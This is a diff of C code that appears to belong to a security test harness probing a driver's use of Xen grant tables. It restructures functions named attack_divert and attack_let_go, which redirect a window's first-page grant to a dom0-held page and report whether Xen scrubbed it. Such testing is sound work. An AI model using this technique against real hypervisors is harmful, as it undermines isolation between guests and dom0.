@@ -29,11 +29,11 @@
  *
  * divert
  *   Flaw: what the manager takes, or clears, goes by a grant that leads
- *   elsewhere.  Method: let the driver's grant of a window's first page be
- *   one of a page of our own, "ref N", which a program in dom0 maps and
- *   keeps.  Xen does not read the entry again while it is mapped
- *   (acquire_grant_for_copy()). let-go opens a window, fills it with A, and
- *   commits it: the driver writes the entry anew, and Xen goes by the old
+ *   elsewhere.  Method: open a window, fill it with A, and let the driver's
+ *   grant of its first page be one of a page of our own, "ref N", which a
+ *   program in dom0 maps and keeps.  Xen does not read the entry again while
+ *   it is mapped (acquire_grant_for_copy()).  let-go commits the window: the
+ *   driver writes the entry anew, and Xen goes by the old
  *   one.  Meaning: where Xen scrubs, the first page's content is that of our
  *   own page (P), which it is ours to name; elsewhere A.  "own page kept": it
  *   was not cleared; "own page changed" would be the flaw.  Pool: "no
@@ -240,7 +240,7 @@ int attack_copy(void)
 /* ---- what a back end keeps mapped ---- */
 
 static struct {
-	struct carveout_window *window; /* held: it is open */
+	struct carveout_window *window; /* it is open */
 	void *own;			/* divert: what dom0 maps */
 	int ref;
 } back_end;
@@ -269,10 +269,8 @@ static int let_go_held(void)
 }
 
 /* The driver takes its lowest free slot for a window. */
-int attack_divert(void)
+static int divert_first_page(struct carveout_slot *slot)
 {
-	struct carveout_slot *slot = &target->slots[0];
-
 	if (!slot->count) {
 		say("no grants");
 		return 0;
@@ -287,24 +285,36 @@ int attack_divert(void)
 	return 0;
 }
 
-static int let_go_diverted(void)
+int attack_divert(void)
 {
 	struct carveout_window *w = fresh_window('A');
 	int err;
 
 	if (IS_ERR(w))
 		return PTR_ERR(w);
-	err = commit(w);
+	err = divert_first_page(&target->slots[0]);
+	if (back_end.own)
+		back_end.window = w;
+	else
+		carveout_discard_window(w);
+	return err;
+}
+
+static int let_go_diverted(void)
+{
+	int err = commit(back_end.window);
+
 	say("own page %s",
 	    memchr_inv(back_end.own, 'P', PAGE_SIZE) ? "changed" : "kept");
 	/* Not freed: dom0 has it mapped. */
 	back_end.own = NULL;
+	back_end.window = NULL;
 	return err ? err : seal();
 }
 
 int attack_let_go(void)
 {
-	if (back_end.window)
-		return let_go_held();
-	return back_end.own ? let_go_diverted() : -ENOENT;
+	if (back_end.own)
+		return let_go_diverted();
+	return back_end.window ? let_go_held() : -ENOENT;
 }
